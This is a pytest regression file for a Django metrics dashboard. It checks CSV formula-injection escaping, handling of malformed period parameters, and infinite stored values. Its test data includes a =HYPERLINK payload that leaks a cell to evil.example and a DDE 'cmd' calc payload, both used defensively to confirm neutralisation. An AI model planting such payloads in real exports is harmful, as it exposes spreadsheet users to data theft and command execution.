"""Output that a hostile source name or number must not turn into an attack or a crash
(issue #11, what broke 1, 6 and 8)."""

import csv
import datetime as dt
import io
import json
import math

import pytest
from django.core.management import call_command
from django.db import connection

from constraints.dashboard.exports import safe_cell
from sources.days import yesterday
from sources.models import Channel, Measure

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-12.50", "-12.50"),
        ("+3%", "+3%"),
        ("Google Ads", "Google Ads"),
        (-4.5, -4.5),
    ],
)
def test_cells_that_start_like_a_formula_are_neutralised(cell, written):
    assert safe_cell(cell) == written


def test_a_channel_named_like_a_formula_is_text_in_the_download(staff_client, demo):
    """What broke 6: a channel (created from source data) named =HYPERLINK(...) was written
    as a live formula."""
    Channel.objects.filter(key="google-ads").update(name=EVIL)
    response = staff_client.get("/dashboard.csv")
    cells = [row[0] for row in csv.reader(io.StringIO(response.content.decode()))]
    assert "'" + EVIL in cells and EVIL not in cells


@pytest.mark.django_db
def test_export_metrics_neutralises_formulas_too(demo_source):
    channel = Channel.objects.create(key="evil", name="Evil")
    Measure.objects.create(
        source=demo_source, channel=channel, campaign="=1+1", date=yesterday(), name="spend",
        value=3,
    )  # fmt: skip
    out = io.StringIO()
    call_command("export_metrics", "--measures", stdout=out)
    assert "'=1+1" in out.getvalue()


@pytest.mark.parametrize("period", ["²", "٣", "-7", "7.0", "99999999999999999999"])
def test_a_strange_period_falls_back_to_the_default(staff_client, demo, period):
    """What broke 8: /?period=² answered 500."""
    assert staff_client.get("/", {"period": period}).status_code == 200


def test_a_non_finite_stored_value_never_reaches_the_page_export_or_rules(staff_client, demo):
    """What broke 1: on SQLite an `inf` stored before validation crashed evaluate, anomaly
    detection and export_metrics, and put `$inf`, `nan%` and a bare Infinity on the page."""
    if connection.vendor != "sqlite":
        pytest.skip("PostgreSQL's numeric(20, 6) cannot hold such a value")
    from constraints.alerts.anomalies import detect_anomalies
    from constraints.rules.evaluation import evaluate

    day = yesterday()
    channel = Channel.objects.get(key="google-ads")
    with connection.cursor() as cursor:
        for name, value in [("spend", math.inf), ("customers", -math.inf), ("conversions", 1e30)]:
            cursor.execute(
                "UPDATE sources_measure SET value = %s WHERE id = (SELECT id FROM sources_measure"
                " WHERE channel_id = %s AND name = %s AND date = %s LIMIT 1)",
                [value, channel.pk, name, day.isoformat()],
            )
    html = staff_client.get("/").content.decode()
    assert "$inf" not in html and "nan%" not in html and "Infinity" not in html
    for script in html.split('type="application/json"')[1:]:
        json.loads(script.split(">", 1)[1].split("</script>")[0])  # the browser's parser
    evaluate(day=day)
    detect_anomalies(day=day + dt.timedelta(days=1))
    out = io.StringIO()
    call_command("export_metrics", "--measures", stdout=out)
    assert "inf" not in out.getvalue().lower()
